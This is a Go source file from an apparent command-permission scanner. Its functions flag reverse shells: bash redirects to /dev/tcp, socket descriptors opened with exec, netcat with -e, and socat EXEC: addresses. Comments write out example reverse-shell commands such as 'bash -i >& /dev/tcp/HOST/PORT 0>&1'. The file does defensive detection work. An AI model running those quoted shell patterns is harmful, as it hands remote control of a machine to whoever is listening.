package flow

import (
	"strings"

	"github.com/permgate/permgate/finding"
	"github.com/permgate/permgate/registry"
	"github.com/permgate/permgate/shellparse"
)

// NetDevice reports bash's network pseudo-files /dev/tcp/HOST/PORT and /dev/udp/….
func NetDevice(p string) bool {
	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
}

// reverseShell: a shell or interpreter whose input or output is a network
// connection (bash -i >& /dev/tcp/HOST/PORT 0>&1, sh <&196 after exec
// 196<>/dev/tcp/…) runs commands that come from the network; nc -e, ncat --exec
// and socat EXEC: serve a shell to the network.
func (s *State) reverseShell(h Host, c shellparse.SimpleCommand) {
	s.noteSockets(c)
	if len(c.Argv) == 0 {
		return
	}
	base := baseName(c)
	if (shellparse.IsShell(c.Name) || h.FlowInterpreter(base)) && s.readsNetwork(h, c) {
		return
	}
	switch base {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for _, t := range commandEffects(c) {
			if t.act == registry.Executes {
				report(h, finding.PipeToShell, "network_shell", base+" connects "+clip(t.word.Text)+" to the network: whoever is at the other end runs commands here")
				return
			}
		}
	case "socat":
		if socatServesShell(operandsOf(c)) {
			report(h, finding.PipeToShell, "socat_shell", "socat connects a program to the network: whoever is at the other end runs commands here")
		}
	}
}

// readsNetwork judges a shell or interpreter whose input or output is a
// network connection, and reports one.
func (s *State) readsNetwork(h Host, c shellparse.SimpleCommand) bool {
	for _, r := range c.Redirects {
		if NetDevice(r.Target.Text) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && s.sockets[r.Target.Text] {
			report(h, finding.PipeToShell, "reverse_shell", c.Name+" reads its commands from a network connection ("+r.Target.Text+"): a reverse shell")
			return true
		}
	}
	return false
}

// noteSockets remembers the file descriptors a bare redirect (exec
// 196<>/dev/tcp/HOST/PORT) opens on a network connection.
func (s *State) noteSockets(c shellparse.SimpleCommand) {
	if len(c.Argv) > 1 || len(c.Argv) == 1 && c.Name != "exec" {
		return
	}
	for _, r := range c.Redirects {
		if !NetDevice(r.Target.Text) {
			continue
		}
		if s.sockets == nil {
			s.sockets = map[string]bool{}
		}
		fd := r.Fd
		if fd == "" {
			fd = "0"
			if r.Op != "<" {
				fd = "1"
			}
		}
		s.sockets[fd] = true
	}
}

// socatServesShell reports socat addresses that join a program (EXEC:,
// SYSTEM:) to a network connection.
func socatServesShell(addrs []shellparse.Word) bool {
	exec, net := false, false
	for _, a := range addrs {
		addr := strings.ToLower(a.Text)
		if strings.HasPrefix(addr, "exec:") || strings.HasPrefix(addr, "system:") {
			exec = true
		}
		for _, kind := range []string{"tcp", "udp", "ssl", "openssl", "sctp", "unix"} {
			if strings.HasPrefix(addr, kind) {
				net = true
			}
		}
	}
	return exec && net
}
